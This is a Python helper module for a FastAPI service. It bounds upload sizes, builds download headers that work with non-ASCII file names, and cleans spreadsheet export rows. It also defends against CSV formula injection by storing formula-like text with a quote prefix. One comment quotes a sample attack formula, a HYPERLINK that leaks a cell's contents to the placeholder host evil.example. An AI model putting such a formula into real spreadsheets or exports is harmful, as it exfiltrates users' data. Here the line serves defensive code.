"""What a route sends back as a file: download headers that survive any file name, and rows a spreadsheet can hold.

Scope codes, unit names and explanations are user text: a Chinese name must not break the header (HTTP headers are
Latin-1) and a control character must not make openpyxl refuse the whole workbook."""
import re
from typing import Any, Iterable
from urllib.parse import quote

from fastapi import UploadFile

from bihuan_shared.web.errors import Invalid, TooLarge

_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")  # what openpyxl raises IllegalCharacterError for
_UNSAFE_IN_FALLBACK = re.compile(r"[^A-Za-z0-9._-]+")


async def read_upload(file: UploadFile, limit: int) -> bytes:
    """The uploaded file, read at most one byte past the limit (413 above it, 422 when empty)."""
    data = await file.read(limit + 1)
    if len(data) > limit:
        raise TooLarge(f"文件超过 {_size(limit)} 上限", code="file_too_large",
                       details=[{"field": "file", "message": f"最多 {limit} 字节"}])
    if not data:
        raise Invalid("上传的文件为空", code="file_empty", details=[{"field": "file", "message": "文件为空"}])
    return data


def _size(limit: int) -> str:
    return f"{limit // (1024 * 1024)} MB" if limit % (1024 * 1024) == 0 else f"{limit} 字节"


def attachment(filename: str) -> dict[str, str]:
    """Content-Disposition with an ASCII fallback and the exact UTF-8 name (RFC 6266 / RFC 5987)."""
    fallback = _UNSAFE_IN_FALLBACK.sub("_", filename).strip("_") or "download"
    return {"Content-Disposition": f"attachment; filename=\"{fallback}\"; filename*=UTF-8''{quote(filename, safe='')}"}


def cell(value: Any) -> Any:
    return _CONTROL.sub("", value) if isinstance(value, str) else value


def row(values: Iterable[Any]) -> list[Any]:
    """A worksheet row with every text stripped of the control characters a cell cannot hold."""
    return [cell(v) for v in values]


# Text a spreadsheet may take for a formula (OWASP "CSV injection"): a lag explanation
# `=HYPERLINK("http://evil.example/leak?d="&B2,"详情")` came out of an export as a live formula.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def append_row(ws, values: Iterable[Any]) -> None:
    """Append a row of an export: texts cleaned of control characters, and every text that could be read as a
    formula stored as text with Excel's quote prefix (so neither opening nor editing the cell evaluates it).
    Numbers stay numbers, negative ones included. openpyxl would otherwise store any text starting with `=` as a
    formula."""
    ws.append(row(values))
    for written in ws[ws.max_row]:
        if isinstance(written.value, str) and written.value.startswith(FORMULA_START):
            written.data_type = "s"
            written.quotePrefix = True
